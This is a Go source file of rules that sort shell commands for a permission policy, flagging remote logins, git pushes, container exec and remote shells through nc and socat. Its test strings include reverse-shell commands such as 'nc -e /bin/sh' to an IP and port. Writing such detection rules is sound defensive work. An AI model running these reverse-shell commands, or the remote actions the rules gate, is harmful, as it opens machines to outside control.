package rules

import "strings"

var remoteRules = []Rule{
	{
		ID: "exec.ssh", Names: "ssh autossh slogin sshpass mosh rsh rlogin rexec ssh-copy-id telnet scp sftp dropbear dbclient plink pscp psexec winrs enter-pssession", Match: both(operand, not(flag("-V", "--version"))),
		Reason: "works on another machine",
		Seeds:  []string{`\bssh\b.*@`},
		Hit:    []string{"ssh user@host", "ssh host uptime", "ssh -l user host", "sshpass -p x ssh host"}, Miss: []string{"ssh -V", "ssh-keygen -t ed25519"},
	},
	{
		ID: "exec.ssh", Names: "rsync", Match: func(c *Command) bool {
			for _, o := range c.Operands() {
				if host, _, ok := strings.Cut(o, ":"); ok && host != "" && !strings.Contains(host, "/") {
					return true
				}
			}
			return false
		},
		Reason: "works on another machine", Hit: []string{"rsync -a x host:y"}, Miss: []string{"rsync -a a/ b/"},
	},
	{
		ID: "exec.remote-shell", Tier: Hard, Names: "nc ncat netcat nc.traditional nc.openbsd", Match: flag("-e", "-c", "--exec", "--sh-exec", "--lua-exec"),
		Reason: "gives a command to another machine",
		Hit:    []string{"nc -e /bin/sh 203.0.113.5 4444"}, Miss: []string{"nc -z localhost 80"},
	},
	{
		ID: "exec.remote-shell", Tier: Hard, Names: "socat", Match: func(c *Command) bool {
			line := strings.ToLower(strings.Join(c.Args, " "))
			return strings.Contains(line, "exec:") || strings.Contains(line, "system:") || strings.Contains(line, "shell:")
		},
		Reason: "gives a command to another machine",
		Hit:    []string{"socat tcp:x:1 exec:sh"}, Miss: []string{"socat - tcp:localhost:80"},
	},
	{
		ID: "exec.git-push", Names: "git", Match: gitPush,
		Reason: "changes a remote repository",
		Seeds:  []string{`\bgit\s+push\b`, `\bgit\s+force\b`},
		Hit:    []string{"git push", "git -c user.name=x push origin main", "git --work-tree . push", "git send-pack x", "git force push", "git lfs push origin", "git subtree push --prefix=a b c"},
		Miss:   []string{"git status", "git push --help", "git commit -m push", "git log --grep push", "git stash push"},
	},
	{
		ID: "exec.git-push", Names: "hub jj hg svn bzr fossil", Match: verb("push", "git push", "commit-remote", "dcommit"),
		Reason: "changes a remote repository", Hit: []string{"hg push"}, Miss: []string{"hg log"},
	},
	{
		ID: "exec.container", Names: "docker podman nerdctl lxc incus crictl ctr docker-compose podman-compose buildah finch kubectl oc",
		Match: func(c *Command) bool {
			words := c.subcommands()
			for i, w := range words {
				switch w {
				case "run", "exec", "attach", "debug":
					return i == 0 || words[i-1] == "container" || words[i-1] == "compose" || words[i-1] == "containers" || words[i-1] == "task" || words[i-1] == "tasks" || words[i-1] == "t" || words[i-1] == "c"
				}
			}
			return false
		},
		Reason: "runs commands in a container, beside the policy",
		Seeds:  []string{`\bdocker\s+run\b`, `\bdocker\s+exec\b`},
		Hit:    []string{"docker run --rm alpine id", "docker run -h web alpine id", "docker exec -it web sh", "docker container exec web id", "docker -H tcp://x run alpine", "docker compose run web id", "docker-compose exec web sh", "docker compose -f x.yml exec web sh", "docker --log-level debug run x"},
		Miss:   []string{"docker build -t app .", "docker ps", "docker pull run", "docker images", "docker run --help", "docker compose up"},
	},
	{
		ID: "exec.container", Names: "systemd-nspawn runc crun lxc-attach lxc-execute", Reason: "runs commands in a container, beside the policy",
		Seeds: []string{`\bdocker\s+exec\b`}, Hit: []string{"runc run x"}, Miss: []string{"lxc-ls"},
	},
}

// gitPush says whether git changes a remote.
func gitPush(c *Command) bool {
	words := c.gitWords()
	if len(words) == 0 {
		return false
	}
	second := ""
	if len(words) > 1 {
		second = words[1]
	}
	if second == "--help" || second == "-h" {
		return false
	}
	switch words[0] {
	case "push", "send-pack", "force", "http-push", "send-email", "force-push", "pushf":
		return true
	case "lfs", "subtree", "subrepo", "town":
		return second == "push"
	case "svn":
		return second == "dcommit"
	case "p4":
		return second == "submit"
	}
	return false
}

// gitWords are git's verb and what follows it.
func (c *Command) gitWords() []string {
	takes := map[string]bool{"-C": true, "-c": true, "--git-dir": true, "--work-tree": true, "--namespace": true, "--super-prefix": true, "--config-env": true, "--attr-source": true}
	for i := 0; i < len(c.Args); i++ {
		if arg := c.Args[i]; !strings.HasPrefix(arg, "-") {
			return c.Args[i:]
		} else if takes[arg] {
			i++
		}
	}
	return nil
}

// subcommands are the words of a container tool up to the first that names a container or an image: options and their
// values left out.
func (c *Command) subcommands() []string {
	takes := map[string]bool{"-H": true, "-c": true, "-l": true, "-f": true, "-p": true, "-n": true, "--host": true, "--context": true, "--config": true, "--log-level": true, "--file": true,
		"--project-name": true, "--project-directory": true, "--env-file": true, "--profile": true, "--tlscacert": true, "--tlscert": true, "--tlskey": true, "--namespace": true,
		"--connection": true, "--url": true, "--identity": true, "--root": true, "--kubeconfig": true, "--cluster": true, "--user": true, "-s": true, "--ansi": true, "--parallel": true, "--progress": true, "--address": true, "-a": true}
	var words []string
	for i := 0; i < len(c.Args) && len(words) < 2; i++ {
		arg := c.Args[i]
		if arg == "--help" {
			return nil // it only prints how it is used
		}
		switch {
		case takes[arg]:
			i++
		case !strings.HasPrefix(arg, "-"):
			words = append(words, arg)
		}
	}
	return words
}
